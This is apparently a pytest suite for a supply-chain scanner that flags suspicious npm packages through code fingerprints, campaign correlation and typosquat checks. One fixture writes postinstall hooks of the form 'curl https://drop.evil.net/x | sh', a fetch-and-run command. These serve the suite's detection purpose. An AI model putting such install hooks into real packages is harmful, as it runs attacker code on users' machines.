import json
import random
import subprocess
from datetime import date, datetime, timedelta

import pytest
from pyspark.sql import functions as F

from riskloom import cli
from riskloom.functions import codeprint, texts, urls
from riskloom.operators import changes, correlate, exposure, routes, views
from riskloom.plans import scan
from riskloom.schema import complete
from riskloom.sinks import documents
from riskloom.sources import manifests, settings

AS_OF = datetime(2026, 2, 1)


def frame(spark, rows, schema):
    return spark.createDataFrame(rows, schema)


# --- code sketches ----------------------------------------------------------------


def payload(names=("data", "key", "send"), quote='"'):
    a, b, c = names
    lines = []
    for i in range(25):
        lines.append(f"if ({a}.length > {i}) {{ const {b}{i} = {a}.slice({i}, {i + 3}); {c}({quote}x{i}{quote}, {b}{i} + {i}); for (let j = 0; j < {i}; j++) {{ {a}[j] ^= {b}{i}; }} }} // step {i}")
    return "\n".join(lines)


def other(n):
    rnd = random.Random(n)
    return "\n".join(f"function f{i}(x) {{ return {' + '.join(rnd.choice(['x', '1', 'x * 2', '(x - 3)', 'g(x)']) for _ in range(6))}; }}" for i in range(30))


def test_sketches_do_not_see_names_strings_or_layout():
    original = codeprint.sketch(payload(), "js")
    assert original == codeprint.sketch(payload(("aa", "bb", "cc")), "js")
    assert original == codeprint.sketch(payload(quote="'"), "js")
    assert original == codeprint.sketch("  ".join(line.split(" //")[0] for line in payload().split("\n")), "js")
    pasted = codeprint.sketch(other(1) + "\n" + payload(), "js")
    shared = len(set(original) & set(pasted)) / len(original)
    assert shared > 0.95 and pasted != original
    assert codeprint.sketch("a = 1", "js") is None and codeprint.sketch(None, "js") is None
    assert len(set(original) & set(codeprint.sketch(other(2), "js"))) < 0.2 * len(original)


def test_lexer_states():
    assert codeprint.syntax_tokens("a = /x[/]/g; b = a / 2 / c", "js") == ["id", "=", "str", ";", "id", "=", "id", "/", "num", "/", "id"]
    assert codeprint.syntax_tokens("x = `a ${f(`b`)} c`; // end\n/* y */ z", "js") == ["id", "=", "str", ";", "id"]
    assert codeprint.syntax_tokens("def f():\n  '''a # b'''\n  return 'x' # y", "py") == ["def", "id", "(", ")", ":", "str", "return", "str"]


# --- campaigns -----------------------------------------------------------------------


def package_rows(spark, *rows):
    schema = "ecosystem string, name string, version string, repository string, homepage string, scripts map<string,string>, publisher string, prior_publishers array<string>, published_at timestamp"
    return complete(frame(spark, rows, schema))


def member(name, repo=None, scripts=None, publisher=None, prior=None, at=None, home=None):
    return ("npm", name, "1.0.0", repo, home, scripts or {}, publisher, prior, at)


def campaigns_of(spark, rows, files=()):
    packages = package_rows(spark, *rows)
    ids = {r["name"]: r["pkg_id"] for r in packages.collect()}
    sources = frame(spark, [(ids[n], rel, t) for n, rel, t in files], "pkg_id string, rel string, text string")
    return packages, correlate.correlate(packages, sources)


def members_of(found):
    out = {}
    for r in found.members.orderBy("pkg_key").collect():
        out.setdefault(r["label"], []).append(r["pkg_key"])
    return out


def test_payload_campaign(spark):
    files = [("one", "i.js", payload()), ("two", "i.js", payload(("p", "q", "r"))), ("three", "i.js", other(3) + "\n" + payload()), ("four", "i.js", other(4)), ("@s/a", "i.js", other(5)), ("@s/b", "i.js", other(5))]
    packages, found = campaigns_of(spark, [member(n) for n in ("one", "two", "three", "four", "@s/a", "@s/b")], files)
    assert members_of(found) == {"C1": ["npm:one@1.0.0", "npm:three@1.0.0", "npm:two@1.0.0"]}
    links = found.links.collect()
    assert any("identical code in 3 packages under 3 separate owners" in ln["detail"] for ln in links)
    assert codeprint.label(codeprint.sketch(payload(), "js")) in {ln["key"] for ln in links}
    told = correlate.campaign_findings(found, packages).join(packages.select("pkg_id", "name"), "pkg_id").where("name = 'one'").first()
    assert told["rule_id"] == "HEM801" and "also in three, two" in told["evidence"]


def test_endpoint_campaign_and_guards(spark):
    hook = lambda h: {"postinstall": f"curl https://{h}/x | sh"}
    rows = [member("a", scripts=hook("drop.evil.net")), member("b", scripts=hook("Drop.evil.net:8443")), member("c", scripts=hook("raw.githubusercontent.com")), member("d", scripts=hook("raw.githubusercontent.com"))]
    rows += [member("@s/e", scripts=hook("same.owner.net")), member("@s/f", scripts=hook("same.owner.net")), member("g", scripts=hook("own.net"), home="https://own.net/x"), member("h", scripts=hook("own.net"))]
    rows += [member(f"crowd{i}", scripts=hook("cdn.crowd.net")) for i in range(65)]
    _, found = campaigns_of(spark, rows)
    assert members_of(found) == {"C1": ["npm:a@1.0.0", "npm:b@1.0.0"]}
    assert [(ln["key"], ln["n"]) for ln in found.links.collect()] == [("drop.evil.net", 2)]


def test_publisher_campaign_with_burst(spark):
    start = datetime(2026, 1, 1)
    rows = [member(n, publisher="new", prior=["old"], at=start + timedelta(hours=h)) for n, h in (("a", 0), ("b", 20), ("c", 30))]
    packages, found = campaigns_of(spark, rows)
    assert found.heads.first()["burst"] == "all 3 versions published within 30 hours of each other"
    assert found.links.first()["detail"] == "new to all 3 packages, and published them"
    assert correlate.campaign_findings(found, packages, online=False).count() == 0
    told = correlate.campaign_findings(found, packages, online=True)
    assert told.count() == 3
    some = told.join(packages.where("name <> 'c'").select("pkg_id"), "pkg_id", "left_semi")
    alive = correlate.live_campaigns(found, some, packages)
    assert members_of(alive) == {"C1": ["npm:a@1.0.0", "npm:b@1.0.0"]} and "2 packages" in alive.links.first()["detail"] and alive.heads.first()["burst"] == ""
    assert correlate.live_campaigns(found, some.limit(1), packages).heads.count() == 0


# --- edges, changes, history -------------------------------------------------------------


def test_routes(spark):
    lock = {
        "packages": {
            "": {"dependencies": {"tide-clock": "1", "other": "1"}},
            "node_modules/tide-clock": {"version": "1", "dependencies": {"moss-garden": "1"}},
            "node_modules/moss-garden": {"version": "1", "dependencies": {"pebble": "1", "missing": "1"}},
            "node_modules/moss-garden/node_modules/pebble": {"version": "1"},
            "node_modules/other": {"version": "1", "dependencies": {"tide-clock": "1", "other": "1"}},
        }
    }
    entries = manifests.lock_entries(frame(spark, [("p", "package-lock.json", "package-lock.json", json.dumps(lock))], manifests.TEXTS))
    edges = routes.lock_edges(entries)
    assert {(r["parent"], r["child"]) for r in edges.collect()} == {(None, "tide-clock"), (None, "other"), ("tide-clock", "moss-garden"), ("moss-garden", "pebble"), ("other", "tide-clock"), ("other", "other")}
    targets = frame(spark, [("npm", "pebble"), ("npm", "other"), ("npm", "nowhere")], "ecosystem string, name string")
    got = {(r["target"], r["turn"]): r["route"] for r in routes.routes_to(edges, routes.roots_of(edges), targets).collect()}
    assert got == {("pebble", 1): ["tide-clock", "moss-garden", "pebble"], ("other", 1): ["other"]}


def test_diff(spark):
    schema = "ecosystem string, name string, version string, spec string"
    base = complete(frame(spark, [("npm", "a", "1.0.0", None), ("npm", "b", "1.0.0", None), ("npm", "gone", "1.0.0", None)], schema))
    head = complete(frame(spark, [("npm", "a", "1.0.0", None), ("npm", "b", "2.0.0", None), ("npm", "new", None, "^1")], schema))
    got = {(r["name"], r["change"], r["was"], r["now"]) for r in changes.compare(base, head).collect()}
    assert got == {("a", "unchanged", "1.0.0", "1.0.0"), ("b", "updated", "1.0.0", "2.0.0"), ("gone", "removed", "1.0.0", None), ("new", "added", None, "^1")}
    report = scan.diff(base, head, AS_OF)
    assert sorted(r["name"] for r in report.verdicts.collect()) == ["b", "new"]
    doc = json.loads(documents.report_json(report))
    assert doc["mode"] == "diff" and doc["summary"]["removed"] == 1 and doc["results"][0]["change"] == "added"


def test_history(spark):
    day = datetime(2026, 1, 1)
    commits = frame(spark, [(i, f"s{i}", day + timedelta(days=i), f"c{i}") for i in range(4)], "idx int, sha string, when timestamp, subject string")
    shots = frame(spark, [(0, "npm", "x", "bad"), (1, "npm", "x", "ok"), (2, "npm", "x", "bad"), (3, "npm", "x", "bad")], "idx int, ecosystem string, name string, version string")
    intel = frame(spark, [("npm", "x", "bad", [("MAL-1", "s", [])], None)], "ecosystem string, name string, version string, malware array<struct<id:string,summary:string,aliases:array<string>>>, advisories array<string>")
    tags = frame(spark, [("s0", "v1"), ("s0", "v2"), ("s1", "v2"), ("s2", "v3")], "sha string, tag string")
    run = scan.history(commits, shots, day + timedelta(days=10), intel, tags)
    rows = exposure.report_order(run.reported).collect()
    assert [(r["first"], r["left_sha"], r["bounded"], r["commits"], r["days"], r["tags"]) for r in rows] == [(0, "s1", False, 1, 1.0, ["v1"]), (2, None, True, 2, 8.0, ["v3"])]
    assert run.summary.first().asDict() == {"versions": 2, "exposed": 1, "with_advisories": 0}
    doc = json.loads(documents.history_json(run))
    assert doc["windows"][1]["still_present"] and doc["windows"][0]["malware"] == ["MAL-1"]


# --- texts ---------------------------------------------------------------------------------


def test_texts(spark):
    rows = frame(spark, [("a  b\n c",), ("word " * 40,), ("x" * 100,)], "t string").select(texts.clip(F.col("t")).alias("c")).collect()
    assert rows[0]["c"] == "a b c" and rows[1]["c"] == "word " * 16 + "word..." and rows[2]["c"] == "x" * 85 + "..."
    got = frame(spark, [("git+https://github.com/Me/Tool.git",), ("git@github.com:me/tool.git",), ("github:me/tool",), ("tool",), ("ssh://git@host/a/b/c",)], "u string").select(urls.repo_slug(F.col("u")).alias("s")).collect()
    assert [r["s"] for r in got] == ["me/tool", "me/tool", "me/tool", None, "b/c"]
    assert [bool(__import__("re").match(texts.glob_regex(p).replace("[\\s\\S]", "."), s)) for p, s in (("a*", "abc"), ("a?", "abc"), ("[!b]c", "ac"), ("a.c", "abc"), ("@x/*", "@x/y"))] == [True, False, True, False, True]


# --- whole runs ------------------------------------------------------------------------------


def project_texts(spark):
    lock = {"packages": {"": {"dependencies": {"lodahs": "1"}}, "node_modules/lodahs": {"version": "1.0.0", "resolved": "http://x.example/l.tgz", "hasInstallScript": True}, "node_modules/well-known-thing": {"version": "1.0.0", "integrity": "sha512-a"}}}
    return frame(spark, [("", "package-lock.json", "package-lock.json", json.dumps(lock)), ("", "requirements.txt", "requirements.txt", "requests==2.0\nrequsts==1.0\n")], manifests.TEXTS)


def test_scan_and_reports(spark):
    report = scan.scan(project_texts(spark), AS_OF)
    got = {r["name"]: r for r in report.verdicts.collect()}
    assert got["well-known-thing"]["score"] == 0 and got["requests"]["severity"] == "clean"
    lodahs = got["lodahs"]
    assert [f["rule_id"] for f in lodahs["findings"]] == ["HEM101", "HEM403", "HEM404", "HEM402", "HEM201"]
    assert lodahs["parts"] == {"naming": 30, "install": 18, "lockfile": 47} and lodahs["score"] == 100
    assert views.gate(report.verdicts, "high").first()["exit_code"] == 1 and views.gate(report.verdicts, "never").first()["exit_code"] == 0
    doc = json.loads(documents.report_json(report))
    assert doc["summary"]["scanned"] == 4 and doc["summary"]["critical"] == 1 and doc["results"][0]["name"] == "lodahs"
    sarif = json.loads(documents.report_sarif(report))["runs"][0]
    assert len(sarif["results"]) == 6 and {r["id"] for r in sarif["tool"]["driver"]["rules"]} == {"HEM101", "HEM201", "HEM402", "HEM403", "HEM404"}
    assert "| 🔴 | [`lodahs@1.0.0`](https://www.npmjs.com/package/lodahs/v/1.0.0) | 100 |" in documents.report_markdown(report)
    assert "naming 30" in documents.report_text(report)


def test_policy_and_baseline(spark, tmp_path):
    (tmp_path / "p.toml").write_text('fail_on = "low"\ndisable = ["hem404"]\n[[ignore]]\nrule = "HEM40*"\npackage = "lod*"\n[[ignore]]\nrule = "*"\nexpires = "2020-01-01"\n')
    policy = settings.read_policy(str(tmp_path / "p.toml"), date(2026, 1, 1))
    accepted = frame(spark, [("npm:lodahs@1.0.0:HEM101",)], "fingerprint string")
    report = scan.scan(project_texts(spark), AS_OF, policy, accepted=accepted)
    lodahs = report.verdicts.where("name = 'lodahs'").first()
    assert [f["rule_id"] for f in lodahs["findings"]] == ["HEM201"] and report.suppressed.count() == 2 and report.known.count() == 1
    assert len(report.warnings) == 1 and "expired" in report.warnings[0]
    for bad in ("fail_on = 'x'", "fresh_days = -1", "correlate = 1", "disable = 'x'", "ignore = 3", "[[ignore]]\nexpires = 'soon'", "= broken"):
        (tmp_path / "bad.toml").write_text(bad)
        with pytest.raises(settings.PolicyError):
            settings.read_policy(str(tmp_path / "bad.toml"), date(2026, 1, 1))
    path = str(tmp_path / "b.json")
    assert settings.write_baseline(path, ["b", "a"], "now") == 2 and settings.read_baseline(path) == {"a", "b"}
    (tmp_path / "c.json").write_text('{"format": 2}')
    assert settings.read_baseline(str(tmp_path / "c.json")) is None


def test_command_line_over_a_repository(spark, tmp_path, capsys):
    git = lambda *a: subprocess.run(["git", "-C", str(tmp_path), "-c", "user.name=t", "-c", "user.email=t@t.example", *a], check=True, capture_output=True)
    lock = lambda v: json.dumps({"packages": {"": {}, "node_modules/chalk": {"version": v, "integrity": "x"}}})
    git("init", "-q")
    for v in ("5.3.0", "5.6.1", "5.3.0"):
        (tmp_path / "package-lock.json").write_text(lock(v))
        git("add", ".")
        git("commit", "-qm", f"chalk {v}")
    assert cli.main(["scan", str(tmp_path)], spark) == 0
    assert "nothing matched" in capsys.readouterr().out
    assert cli.main(["history", str(tmp_path), "--package", "chalk", "--format", "json"], spark) == 0
    doc = json.loads(capsys.readouterr().out)
    assert sorted(w["version"] for w in doc["windows"]) == ["5.3.0", "5.3.0", "5.6.1"] and doc["range"]["commits"] == 3
    assert cli.main(["history", str(tmp_path)], spark) == 0
    assert capsys.readouterr().out.startswith("read, not checked: 2 versions in 3 commits")
    assert cli.main(["diff", str(tmp_path), "--since", "HEAD~1", "--format", "json"], spark) == 0
    assert json.loads(capsys.readouterr().out)["summary"]["changed"] == 1
    assert cli.main(["check", "lodahs", "--fail-on", "medium"], spark) == 1


def test_why_and_init(spark, tmp_path, capsys):
    lock = {"packages": {"": {"dependencies": {"tide-clock": "1"}}, "node_modules/tide-clock": {"version": "1", "dependencies": {"pebble": "1"}}, "node_modules/pebble": {"version": "1"}}}
    (tmp_path / "package-lock.json").write_text(json.dumps(lock))
    assert cli.main(["why", "pebb", str(tmp_path)], spark) == 0
    assert "via tide-clock > pebble\n" in capsys.readouterr().out
    assert cli.main(["init", str(tmp_path)]) == 0 and cli.main(["init", str(tmp_path)]) == 0
    assert "there already" in capsys.readouterr().out
    assert settings.read_policy(str(tmp_path / "riskloom.toml"), date(2026, 1, 1)) == settings.Policy()
